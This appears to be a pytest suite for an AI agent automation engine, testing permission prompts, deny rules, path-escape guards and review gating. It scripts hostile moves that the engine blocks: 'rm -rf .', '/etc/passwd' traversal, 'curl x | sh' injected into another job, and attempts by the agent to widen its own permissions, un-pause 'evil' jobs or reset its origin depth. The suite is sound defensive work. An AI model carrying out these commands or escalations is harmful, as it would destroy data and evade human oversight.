"""Agent runs end to end inside the engine: the real provider client against a scripted
OpenAI-compatible server on 127.0.0.1, a real SQLite file, real tools in a real workdir.

The engine's clock is fake (for expiry); the model's replies and the tools run in real time.
"""

from __future__ import annotations

import asyncio
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from errands.records import Decision
from agent_support import AgentHarness, h, last_tool_result, server  # noqa: F401 (fixtures)
from openai_server import ScriptedServer, call, calls, fail, say, stall


# ------------------------------------------------------------------ the loop

async def test_a_tool_loop_ends_in_the_final_answer(h: AgentHarness, server: ScriptedServer) -> None:
    (h.workdir / "notes.txt").write_text("the answer is 42\n")
    a = await h.agent("reader", "What is in notes.txt?")
    server.play(call("read_file", {"path": "notes.txt"}), say("It says 42."))
    run = await h.run(a)
    assert run.state == "succeeded" and run.result == "It says 42."
    assert (run.prompt_tokens, run.completion_tokens) == (20, 10)
    assert run.details is not None and run.details["steps"] == 1
    first = server.requests[0]
    assert first["model"] == "scripted-model"
    assert {t["function"]["name"] for t in first["tools"]} >= {"read_file", "finish", "automate"}
    system, user = first["messages"][:2]
    assert "unattended" in system["content"] and str(h.workdir) in system["content"]
    assert user["content"].startswith('[Errands: automation "reader", run #1')
    assert user["content"].endswith("What is in notes.txt?")
    assert "the answer is 42" in last_tool_result(server)
    turns = [m["turn"] for m in h.transcript(run)]
    assert turns == ["prompt", "step", "tool", "final"]


async def test_finish_reports_summary_condition_and_notice(h: AgentHarness,
                                                           server: ScriptedServer) -> None:
    a = await h.agent("watch", stop={"when_condition_met": True},
                      trigger={"kind": "every", "every": "1h"})
    server.play(call("finish", {"summary": "Release 2.0 is out.", "condition_met": True,
                                "notify": True}))
    await h.clock.settle()
    run = await h.engine.commands.wait_run(h.runs(a)[0].id)
    assert run.state == "succeeded" and run.result == "Release 2.0 is out."
    assert h.store.get(a).status == "completed"  # stopped on its condition
    assert any(i.kind == "notify" and "Release 2.0" in (i.body or "")
               for i in h.store.attention())


async def test_the_step_cap_is_a_real_gate(h: AgentHarness, server: ScriptedServer) -> None:
    (h.workdir / "f").write_text("x")
    a = await h.agent("busy", policy={"max_steps": 3})
    server.play(*[lambda body: call("read_file", {"path": "f"})] * 10)
    run = await h.run(a)
    assert run.state == "failed" and run.stop_reason == "step_cap"
    assert run.error_code == "step_cap" and "3 steps" in (run.error_message or "")
    assert len(server.requests) == 4  # three steps ran; the fourth was refused
    assert sum(1 for m in h.transcript(run) if m["role"] == "tool") == 3


async def test_a_run_over_its_timeout_ends_with_timeout(h: AgentHarness,
                                                        server: ScriptedServer) -> None:
    a = await h.agent("slow", policy={"timeout": "1s"})
    server.play(stall(4))
    run = await h.run(a)
    assert run.state == "failed" and run.stop_reason == "timeout"
    assert run.error_code == "timeout"


@pytest.mark.parametrize("entry, code", [
    (fail(401, "invalid api key"), "key_rejected"),
    (fail(500, "overloaded"), "provider_error"),
    (fail(400, "This model's maximum context length is 8192 tokens"), "context_too_long"),
    (fail(429, "slow down", headers={"retry-after": "600"}), "rate_limited"),
])
async def test_provider_faults_fail_the_run_with_their_code(h: AgentHarness, server: ScriptedServer,
                                                            entry: dict[str, Any], code: str) -> None:
    a = await h.agent("faulty")
    server.play(entry)
    run = await h.run(a)
    assert run.state == "failed" and run.error_code == code
    assert run.stop_reason == "failed"  # not the runner's own stop: the retry policy applied


async def test_a_fault_is_retried_by_the_run_policy(h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("flaky", policy={"retry": {"max_attempts": 2,
                                                 "backoff": {"initial": "1s"}}})
    server.play(fail(500, "try later"), say("fine now"))
    run = await h.engine.commands.run_now(a)
    for _ in range(500):  # the first attempt's request takes real time
        if h.store.get_run(run.id).retry_at is not None:
            break
        await asyncio.sleep(0.01)
    await h.clock.settle()
    await h.clock.advance(2)
    run = await h.engine.commands.wait_run(run.id)
    assert run.state == "succeeded" and run.result == "fine now" and run.attempt == 2
    assert len(server.requests[1]["messages"]) == 2  # the retry starts afresh: system + user


async def test_malformed_arguments_go_back_to_the_model_as_a_step(h: AgentHarness,
                                                                   server: ScriptedServer) -> None:
    a = await h.agent("sloppy")
    server.play(call("read_file", '{"path": "notes.txt"'), call("no_such_tool", {}),
                say("gave up"))
    run = await h.run(a)
    assert run.state == "succeeded" and run.result == "gave up"
    assert "not valid JSON" in last_tool_result(server, 1)
    assert "no tool named 'no_such_tool'" in last_tool_result(server, 2)
    assert run.details["steps"] == 2  # type: ignore[index]


# ------------------------------------------------------------------ permissions and parking

async def test_a_command_asks_then_approve_once_resumes_where_it_stopped(
        h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("builder")
    server.play(call("run_command", {"command": "echo built > out.txt"}), say("Built."))
    run = await h.run(a)
    assert run.state == "awaiting_input"
    parked = h.store.parked()
    assert [(p.blocker.kind, p.blocker.tool, p.blocker.arguments) for p in parked] == [
        ("permission", "run_command", {"command": "echo built > out.txt"})]
    assert not (h.workdir / "out.txt").exists()
    assert len(server.requests) == 1
    run = await h.decide(run, "approve_once")
    assert run.state == "succeeded" and run.result == "Built."
    assert (h.workdir / "out.txt").read_text() == "built\n"
    assert "exit" in last_tool_result(server).lower() or "built" in last_tool_result(server)
    # approve once saves nothing: the next run asks again
    server.play(call("run_command", {"command": "echo built > out.txt"}))
    assert (await h.run(a)).state == "awaiting_input"


async def test_approve_always_saves_a_rule_so_later_runs_do_not_ask(
        h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("builder")
    server.play(call("run_command", {"command": "make"}), say("one"))
    run = await h.run(a)
    revision = h.store.get(a).revision
    run = await h.decide(run, "approve_always")
    assert run.state == "succeeded"
    automation = h.store.get(a)
    assert automation.revision == revision + 1
    rules = automation.definition.permissions.rules  # type: ignore[union-attr]
    assert [(r.tool, r.pattern, r.action) for r in rules] == [("run_command", "make", "allow")]
    server.play(call("run_command", {"command": "make"}), say("two"))
    assert (await h.run(a)).result == "two"
    server.play(call("run_command", {"command": "make clean"}))  # another command still asks
    assert (await h.run(a)).state == "awaiting_input"


async def test_approve_always_allows_the_command_as_written_not_as_a_glob(
        h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("cleaner")
    server.play(call("run_command", {"command": "echo build/*"}), say("one"))
    run = await h.decide(await h.run(a), "approve_always")
    assert run.state == "succeeded"
    server.play(call("run_command", {"command": "echo build/*"}), say("two"))
    assert (await h.run(a)).result == "two"
    server.play(call("run_command", {"command": "echo build/../../../etc/passwd"}))
    assert (await h.run(a)).state == "awaiting_input"  # the * was the command's, not a glob


async def test_approve_always_on_an_absolute_path_saves_it_as_the_run_judged_it(
        h: AgentHarness, server: ScriptedServer) -> None:
    """A file tool's path is judged relative to the workdir; the saved rule must be too,
    or it would never match the next call (the same file, written either way)."""
    a = await h.agent("notes")
    target = h.workdir / "notes" / "today.md"
    target.parent.mkdir()
    server.play(call("write_file", {"path": str(target), "content": "one"}), say("one"))
    run = await h.decide(await h.run(a), "approve_always")
    assert run.state == "succeeded"
    rules = h.store.get(a).definition.permissions.rules  # type: ignore[union-attr]
    assert [(r.tool, r.pattern) for r in rules] == [("write_file", "notes/today.md")]
    server.play(call("write_file", {"path": "notes/today.md", "content": "two"}), say("two"))
    assert (await h.run(a)).result == "two"
    server.play(call("write_file", {"path": str(target), "content": "three"}), say("three"))
    assert (await h.run(a)).result == "three"
    assert target.read_text() == "three"


async def test_deny_tells_the_model_which_may_go_on(h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("cleaner")
    server.play(call("write_file", {"path": "x.txt", "content": "x"}), say("Skipped writing."))
    run = await h.run(a)
    run = await h.engine.commands.decide(run.id, Decision(kind="deny", text="not today"))
    run = await h.engine.commands.wait_run(run.id)
    assert run.state == "succeeded" and run.result == "Skipped writing."
    assert last_tool_result(server) == "Denied by the user. Their note: not today"
    assert not (h.workdir / "x.txt").exists()


async def test_ask_user_parks_until_answered(h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("asker")
    server.play(call("ask_user", {"question": "Which branch?", "choices": ["main", "dev"]}),
                say("Using dev."))
    run = await h.run(a)
    assert run.state == "awaiting_input"
    blocker = h.store.parked()[0].blocker
    assert (blocker.kind, blocker.question, blocker.choices) == ("question", "Which branch?",
                                                                ["main", "dev"])
    run = await h.decide(run, "answer", "dev")
    assert run.result == "Using dev."
    assert last_tool_result(server) == "The user answered: dev"


async def test_a_global_deny_beats_the_automation_grant(h: AgentHarness,
                                                        server: ScriptedServer) -> None:
    await h.engine.commands.set_setting("permission_rules", json.dumps(
        [{"tool": "run_command", "pattern": "rm *", "action": "deny"}]))
    a = await h.agent("reckless", permissions={"mode": "allow_all"})
    server.play(call("run_command", {"command": "rm -rf ."}), call("run_command",
                                                                    {"command": "echo ok"}),
                say("done"))
    (h.workdir / "keep").write_text("x")
    run = await h.run(a)
    assert run.state == "succeeded"
    assert "Denied by the user's rules" in last_tool_result(server, 1)
    assert "ok" in last_tool_result(server, 2)  # the grant allows what no deny matches
    assert (h.workdir / "keep").exists()


async def test_rules_are_read_in_order_and_the_last_match_wins(h: AgentHarness,
                                                               server: ScriptedServer) -> None:
    await h.engine.commands.set_setting("permission_rules", json.dumps([
        {"tool": "exec", "pattern": "*", "action": "deny"},
        {"tool": "run_command", "pattern": "echo *", "action": "allow"}]))
    a = await h.agent("echoer")
    server.play(call("run_command", {"command": "echo hi"}), call("run_command", {"command": "ls"}),
                say("done"))
    run = await h.run(a)
    assert run.state == "succeeded"
    assert "hi" in last_tool_result(server, 1)
    assert "Denied" in last_tool_result(server, 2)


async def test_untrusted_content_makes_granted_tools_ask(h: AgentHarness,
                                                         server: ScriptedServer) -> None:
    # the scripted server is on loopback: fetch_url reaches it only by a rule naming it
    names_server = [{"tool": "fetch_url", "pattern": server.base_url + "/*", "action": "allow"}]
    a = await h.agent("reader", permissions={"mode": "allow_all", "rules": names_server})
    server.play(call("fetch_url", {"url": server.base_url + "/models"}),
                call("run_command", {"command": "echo hi"}))
    run = await h.run(a)
    assert run.state == "awaiting_input"
    assert h.store.parked()[0].blocker.tool == "run_command"
    assert run.details["untrusted_content"] is True  # type: ignore[index]
    # listed in untrusted_ok, the same call goes ahead
    b = await h.agent("trusting", permissions={"mode": "allow_all", "rules": names_server,
                                               "untrusted_ok": ["run_command"]})
    server.play(call("fetch_url", {"url": server.base_url + "/models"}),
                call("run_command", {"command": "echo hi"}), say("ok"))
    assert (await h.run(b)).state == "succeeded"


async def test_a_parked_run_survives_a_restart_and_completes(h: AgentHarness,
                                                             server: ScriptedServer) -> None:
    a = await h.agent("durable")
    server.play(call("write_file", {"path": "a.txt", "content": "A"}), say("Wrote it."))
    run = await h.run(a)
    assert run.state == "awaiting_input"
    await h.restart()
    assert h.store.get_run(run.id).state == "awaiting_input"
    run = await h.decide(run, "approve_once")
    assert run.state == "succeeded" and (h.workdir / "a.txt").read_text() == "A"
    assert run.details["changed_files"] == ["a.txt"]  # type: ignore[index]
    assert len(server.requests) == 2  # the model was not asked again for the parked step


async def test_a_parked_run_expires(h: AgentHarness, server: ScriptedServer) -> None:
    await h.engine.commands.set_setting("parked_expiry", "2h")
    a = await h.agent("forgotten")
    server.play(call("run_command", {"command": "true"}))
    run = await h.run(a)
    await h.clock.advance(timedelta(hours=2, seconds=1))
    run = h.store.get_run(run.id)
    assert run.state == "expired" and run.stop_reason == "approval_expired"


# ------------------------------------------------------------------ history

async def test_continue_replays_earlier_runs_within_the_token_budget(
        h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("diary", "Add to the diary.", context={"mode": "continue",
                                                             "max_history_tokens": 60})
    for n in range(3):
        server.play(say(f"entry {n} " + "x" * 80))
        run = await h.run(a)
        assert run.state == "succeeded"
    third = server.requests[2]["messages"]
    assert [m["role"] for m in third] == ["system", "system", "user", "assistant", "user"]
    assert "1 earlier runs" in third[1]["content"]
    assert third[3]["content"].startswith("entry 1")  # the newest earlier run kept
    assert h.runs(a)[0].session_id == h.runs(a)[2].session_id


async def test_fresh_runs_do_not_see_each_other(h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("fresh")
    server.play(say("one"), say("two"))
    first, second = await h.run(a), await h.run(a)
    assert first.session_id != second.session_id
    assert len(server.requests[1]["messages"]) == 2


# ------------------------------------------------------------------ automate

async def test_automate_creates_a_paused_one_shot_that_continues_the_session(
        h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("deployer", permissions={"mode": "allow_listed", "tools": ["automate"]})
    server.play(call("automate", {"action": "create", "title": "Check the deploy",
                                  "runner": {"kind": "agent", "prompt": "Green yet?"},
                                  "schedule": "in:10m"}), say("Will check back."))
    run = await h.run(a)
    assert run.state == "succeeded"
    echo = json.loads(last_tool_result(server))
    created = h.store.get(echo["id"])
    assert created.status == "paused"  # an unattended run's creation waits for review
    d = created.definition
    assert d is not None and d.trigger.kind == "at"
    assert (d.origin.kind, d.origin.depth, d.origin.session_id) == ("agent", 1, run.session_id)
    assert d.context.mode == "continue"
    assert any(i.kind == "review" for i in h.store.attention())


async def test_automate_refusals_name_the_field(h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("clumsy", permissions={"mode": "allow_all"})
    server.play(call("automate", {"action": "create", "title": "x",
                                  "runner": {"kind": "agent", "prompt": "p"},
                                  "schedule": "every:1s"}),
                call("automate", {"action": "create", "title": "x"}),
                call("automate", {"action": "explode"}), say("sorry"))
    await h.run(a)
    assert "schedule" in last_tool_result(server, 1) or "every" in last_tool_result(server, 1)
    assert "schedule: a new automation needs a schedule" in last_tool_result(server, 2)
    assert "action" in last_tool_result(server, 3)
    assert len(h.store.list()) == 1


async def test_automate_cascades_stop_at_depth_three(h: AgentHarness,
                                                     server: ScriptedServer) -> None:
    a = await h.agent("deep", permissions={"mode": "allow_all"},
                      origin={"kind": "agent", "depth": 3})
    server.play(call("automate", {"action": "create", "title": "deeper",
                                  "runner": {"kind": "agent", "prompt": "p"},
                                  "schedule": "in:1h"}), say("ok"))
    await h.run(a)
    assert "nest 3 deep" in last_tool_result(server)
    assert len(h.store.list()) == 1


async def test_automate_cannot_widen_permissions_unattended(h: AgentHarness,
                                                            server: ScriptedServer) -> None:
    a = await h.agent("sneaky", permissions={"mode": "allow_listed", "tools": ["automate"]})
    server.play(call("automate", {"action": "update", "id": a,
                                  "permissions": {"mode": "allow_all"}}), say("ok"))
    await h.run(a)
    assert "cannot change what an automation may do" in last_tool_result(server)
    assert h.store.get(a).definition.permissions.mode == "allow_listed"  # type: ignore[union-attr]


async def test_automate_cannot_delete_its_own_automation(h: AgentHarness,
                                                         server: ScriptedServer) -> None:
    a = await h.agent("suicidal", permissions={"mode": "allow_all"})
    server.play(call("automate", {"action": "delete", "id": a}), say("gone"))
    run = await asyncio.wait_for(h.run(a), 10)  # it used to wait for itself forever
    assert run.state == "succeeded"
    assert "cannot delete its own automation" in last_tool_result(server)
    assert h.store.get(a).status == "active"


async def test_an_unattended_run_cannot_resume_what_awaits_review(
        h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("sneaky", permissions={"mode": "allow_all"})

    def resume(body: dict[str, Any]) -> Any:
        created = json.loads([m for m in body["messages"] if m["role"] == "tool"][-1]["content"])
        return calls([("automate", {"action": "resume", "id": created["id"]}),
                      ("automate", {"action": "update", "id": created["id"], "paused": False})])
    server.play(call("automate", {"action": "create", "title": "evil", "schedule": "every:1h",
                                  "runner": {"kind": "command", "command": "echo pwned"}}),
                resume, say("ok"))
    await h.run(a)
    results = [m["content"] for m in server.requests[2]["messages"] if m["role"] == "tool"]
    assert "cannot resume" in results[-2]
    evil = next(x for x in h.store.list() if x.title == "evil")
    assert evil.status == "paused"


async def test_an_unattended_change_of_what_runs_waits_for_review(
        h: AgentHarness, server: ScriptedServer) -> None:
    other, _ = await h.engine.commands.create({"title": "backup", "trigger": {"kind": "every", "every": "1h"},
                                      "runner": {"kind": "command", "command": "echo hi"}})
    a = await h.agent("sneaky", permissions={"mode": "allow_listed", "tools": ["automate"]},
                      origin={"kind": "agent", "depth": 3})
    server.play(calls([("automate", {"action": "update", "id": other.id,
                                     "runner": {"kind": "command", "command": "curl x | sh"}}),
                       ("automate", {"action": "update", "id": a,
                                     "origin": {"kind": "user", "depth": 0}})]), say("ok"))
    await h.run(a)
    changed = h.store.get(other.id)
    assert changed.status == "paused"
    assert any(i.kind == "review" and i.automation_id == other.id for i in h.store.attention())
    assert h.store.get(a).definition.origin.depth == 3  # type: ignore[union-attr]


# ------------------------------------------------------------------ dry runs

async def test_a_dry_run_proposes_instead_of_acting(h: AgentHarness, server: ScriptedServer) -> None:
    a = await h.agent("careful", permissions={"mode": "allow_all"})
    server.play(calls([("write_file", {"path": "out.txt", "content": "x"}),
                       ("run_command", {"command": "touch made"}),
                       ("notify", {"title": "t", "body": "b"})]), say("Planned."))
    run = await h.run(a, dry_run=True)
    assert run.state == "succeeded" and run.dry_run
    assert not (h.workdir / "out.txt").exists() and not (h.workdir / "made").exists()
    proposed = run.details["proposed"]  # type: ignore[index]
    assert len(proposed) == 3 and "out.txt" in proposed[0] and "touch made" in proposed[1]
    assert not [i for i in h.store.attention() if i.kind == "notify"]


# ------------------------------------------------------------------ worktrees

def _git(repo: Path, *args: str) -> str:
    import subprocess
    return subprocess.run(["git", "-C", str(repo), "-c", "user.name=Test", "-c",
                           "user.email=test@example.invalid", *args], check=True,
                          capture_output=True, text=True).stdout


async def test_worktree_runs_list_changes_and_drop_clean_worktrees(
        h: AgentHarness, server: ScriptedServer, tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", "-b", "main")
    (repo / "README").write_text("hello\n")
    _git(repo, "add", "README")
    _git(repo, "commit", "-q", "-m", "first")
    a = await h.agent("isolated", workdir=str(repo), worktree=True,
                      context={"mode": "fresh"}, permissions={"mode": "allow_all"})
    server.play(calls([("write_file", {"path": "new.txt", "content": "n"}),
                       ("write_file", {"path": "README", "content": "changed\n"})]),
                say("Edited."))
    run = await h.run(a)
    assert run.state == "succeeded", run.error_message
    details = run.details or {}
    assert details["changed_files"] == ["README", "new.txt"]
    kept = details["worktree"]
    assert kept["kept"] is True and kept["branch"] == f"errands/{a}/1"
    assert Path(kept["path"]).is_dir() and (Path(kept["path"]) / "new.txt").exists()
    assert (repo / "README").read_text() == "hello\n"  # the user's checkout is untouched
    assert not (repo / "new.txt").exists()
    server.play(say("Nothing to do."))
    clean = await h.run(a)
    assert clean.details["changed_files"] == []  # type: ignore[index]
    assert clean.details["worktree"]["kept"] is False  # type: ignore[index]
    assert not Path(clean.details["worktree"]["path"]).exists()  # type: ignore[index]
    assert f"errands/{a}/2" not in _git(repo, "branch", "--list")


async def test_paths_that_escape_the_workdir_are_refused_whatever_the_rules(
        h: AgentHarness, server: ScriptedServer, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("s3cret")
    (h.workdir / "link").symlink_to(tmp_path / "secret.txt")
    await h.engine.commands.set_setting("permission_rules", json.dumps(
        [{"tool": "*", "pattern": "*", "action": "allow"}]))
    a = await h.agent("escaper", permissions={"mode": "allow_all"})
    server.play(call("read_file", {"path": "../secret.txt"}),
                call("read_file", {"path": str(tmp_path / "secret.txt")}),
                call("read_file", {"path": "link"}),
                call("write_file", {"path": "../planted.txt", "content": "x"}), say("no luck"))
    run = await h.run(a)
    assert run.state == "succeeded"
    for i in range(1, 5):
        result = last_tool_result(server, i)
        assert result.startswith("Error") and "s3cret" not in result
    assert not (tmp_path / "planted.txt").exists()


async def test_a_path_deny_rule_holds_for_a_link_to_the_denied_file(
        h: AgentHarness, server: ScriptedServer) -> None:
    (h.workdir / "secrets").mkdir()
    (h.workdir / "secrets" / "key").write_text("k3y")
    (h.workdir / "innocent").symlink_to(h.workdir / "secrets" / "key")
    await h.engine.commands.set_setting("permission_rules", json.dumps(
        [{"tool": "read_file", "pattern": "secrets/*", "action": "deny"}]))
    a = await h.agent("snoop")
    server.play(call("read_file", {"path": "innocent"}), say("denied"))
    await h.run(a)
    assert "Denied by the user's rules" in last_tool_result(server)


@pytest.mark.catalogue_free
def test_replay_keeps_the_newest_whole_turns_within_the_budget() -> None:
    from hypothesis import given, strategies as st

    from errands.agent.history import estimate_tokens, replay

    @given(st.lists(st.tuples(st.text(max_size=200), st.text(max_size=200),
                              st.booleans()), max_size=12), st.integers(0, 400))
    def check(runs: list[tuple[str, str, bool]], budget: int) -> None:
        stored: list[dict[str, Any]] = []
        for i, (prompt, answer, answered) in enumerate(runs):
            stored.append({"role": "user", "content": prompt, "turn": "prompt", "run_id": str(i)})
            stored.append({"role": "tool", "content": "noise", "turn": "tool", "run_id": str(i)})
            if answered:
                stored.append({"role": "assistant", "content": answer, "turn": "final",
                               "run_id": str(i)})
        kept, dropped = replay(stored, budget)
        assert sum(estimate_tokens(m) for m in kept) <= budget
        assert len(kept) % 2 == 0 and [m["role"] for m in kept[:2]] in ([], ["user", "assistant"])
        complete = [(p, a) for p, a, ok in runs if ok]
        assert len(kept) // 2 + dropped == len(complete)
        if kept:  # the newest turns, in order
            assert [(u["content"], a["content"]) for u, a in zip(kept[::2], kept[1::2])] == \
                complete[len(complete) - len(kept) // 2:]

    check()


async def test_a_damaged_transcript_row_costs_only_itself(h: AgentHarness,
                                                          server: ScriptedServer) -> None:
    a = await h.agent("damaged")
    server.play(call("run_command", {"command": "true"}), say("done"))
    run = await h.run(a)
    assert run.state == "awaiting_input"
    with h.store.transaction() as s:  # a row another version (or a disk fault) mangled
        from errands.db.schema import MessageRow
        s.add(MessageRow(session_id=run.session_id, seq=99, run_id=run.id, role="assistant",
                         content={"tool_calls": [{"function": 7}], "run_id": run.id,
                                  "attempt": 1, "turn": "step"}, created_at=h.clock.now()))
    run = await h.decide(run, "approve_once")
    assert run.state == "succeeded" and run.result == "done"
    assert "exit" in last_tool_result(server).lower()  # the approved call ran all the same


async def test_what_an_attended_turn_creates_starts_active(h: AgentHarness,
                                                          server: ScriptedServer) -> None:
    """A reply is a discussion (the person is there): what it creates, once they approve
    the call, starts active; the automation gets no second run."""
    a = await h.agent("helper", permissions={"mode": "allow_listed", "tools": ["automate"]})
    server.play(say("Hello."))
    first = await h.run(a)
    server.play(call("automate", {"action": "create", "title": "Water the plants",
                                  "runner": {"kind": "command", "command": "true"},
                                  "schedule": "every:1h"}))
    d = await h.engine.commands.reply(first.session_id, "Remind me hourly.")  # type: ignore[arg-type]
    assert d["waiting"]["tool"] == "automate"  # a discussion has no grant: it asks
    server.play(say("Scheduled."))
    d = await h.engine.discussions.decide(d["session_id"], Decision(kind="approve_once"))
    assert d["answer"] == "Scheduled."
    created = h.store.get(json.loads(last_tool_result(server))["id"])
    assert created.status == "active"
    sent = server.requests[-2]["messages"]
    assert "may be watching" in sent[0]["content"]  # the system prompt knows
    assert sent[-1]["content"].endswith("Remind me hourly.")
    assert {"role": "assistant", "content": "Hello."} in sent  # the turn before, replayed
    assert [r.index for r in h.runs(a)] == [1]


async def test_each_transcript_message_is_announced_without_hiding_the_run_state(
        h: AgentHarness, server: ScriptedServer) -> None:
    changes: list[Any] = []
    h.engine.events.tap(changes.append)
    a = await h.agent("chatty")
    server.play(call("list_files", {}), say("Nothing here."))
    run = await h.run(a)
    ours = [c for c in changes if c.run_id == run.id and c.kind == "run_changed"]
    assert sum(1 for c in ours if c.data.get("transcript")) == 4  # prompt, step, tool, final
    from errands.engine.notices import _Pending
    folded = _Pending()
    for change in ours:  # one window holding them all still says how the run ended
        folded.fold(change)
    assert folded.runs[run.id] == "succeeded"
